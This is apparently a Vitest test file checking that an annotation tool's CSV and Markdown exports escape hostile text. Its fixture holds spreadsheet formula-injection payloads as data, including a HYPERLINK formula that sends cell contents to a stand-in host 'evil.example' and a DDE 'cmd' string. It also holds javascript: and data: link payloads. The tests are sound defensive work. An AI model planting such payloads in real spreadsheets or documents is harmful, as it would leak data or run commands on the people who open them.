import { describe, expect, it } from 'vitest';
import { createCodingServices } from '../../../electron/core/annotations';
import { exportAnnotationsCsv, exportAnnotationsMarkdown } from '../../../electron/core/annotations/export';
import { useCodingWorkspaces } from '../annotations/helpers/coding-workspace';
import { paragraphsToPassages, TestCorpus } from '../annotations/helpers/seed-corpus';
import { parseCsv } from '../../helpers/csv';

const openCodingWorkspace = useCodingWorkspaces();

/** An imported file whose title, quote and note were written by someone hostile. */
async function hostileWorkspace() {
  const corpus = new TestCorpus();
  const title = '=HYPERLINK("http://evil.example/?d="&A2,"Open report")';
  corpus.setDocument('imported-1', title, paragraphsToPassages('imported-1', ['+cmd|\'/C calc\'!A0 is what the minutes said.'], ['=Speaker']));
  const services = createCodingServices((await openCodingWorkspace()).workspace, corpus);
  const topic = await services.topics.create({ name: '@Trust' });
  await services.annotations.createFromQuote({
    passageId: 'imported-1-p0',
    quote: "+cmd|'/C calc'!A0",
    note: '-1+1 see [the source](javascript:alert(document.cookie)) and <a href="data:text/html,x">this</a>',
    topicIds: [topic.id],
  });
  return { corpus, services, title };
}

describe('annotation exports with hostile text', () => {
  it('CSV: no cell starts a formula, whether it came from a title, a quote, a note, a topic or a speaker', async () => {
    const { corpus, services } = await hostileWorkspace();
    const csv = exportAnnotationsCsv(services.annotations.list(), { topics: services.topics.tree(), lookup: corpus });
    const [header, row] = parseCsv(csv) as [string[], string[]];
    const cell = (column: string) => row[header.indexOf(column)];
    expect(cell('document')).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"Open report")`);
    expect(cell('quote')).toBe("'+cmd|'/C calc'!A0");
    expect(cell('note')).toMatch(/^'-1\+1 see \[the source\]/);
    expect(cell('topic')).toBe("'@Trust");
    expect(cell('page')).toBe('1');
    expect(cell('speaker')).toBe("'=Speaker");
    for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('Markdown: a note cannot become a link or raw HTML', async () => {
    const { corpus, services } = await hostileWorkspace();
    const markdown = exportAnnotationsMarkdown(services.annotations.list(), corpus);
    expect(markdown).toContain('\\[the source\\](javascript:alert(document.cookie))');
    expect(markdown).toContain('\\<a href="data:text/html,x"\\>this\\</a\\>');
    expect(markdown).not.toMatch(/(^|[^\\])\[the source\]\(/);
  });
});
